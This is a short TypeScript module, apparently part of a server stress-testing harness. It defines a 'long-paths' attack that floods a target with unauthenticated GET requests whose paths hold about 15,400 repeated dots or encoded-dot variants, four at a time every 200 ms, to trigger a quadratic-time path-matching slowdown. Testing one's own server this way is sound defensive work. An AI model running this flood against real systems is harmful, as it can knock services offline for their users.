import { type Attack, repeat } from '../attack.ts';

/** Line 7: addresses that a quadratic expression takes long over; nobody is signed in. */
export const longPaths: Attack = {
  name: 'long-paths',
  does: 'GET /<15,500 dots>/ and its kin, twenty a second, without sign-in',
  run: (target, signal) =>
    repeat(signal, { atOnce: 4, pauseMs: 200 }, (lane) => {
      const piece = ['.', '.a', 'a.', '%2e'][lane] ?? '.';
      // As a raw path: a URL would take dots that stand alone out.
      return target.fetch(`/x${piece.repeat(Math.floor(15_400 / piece.length))}/`);
    }),
};
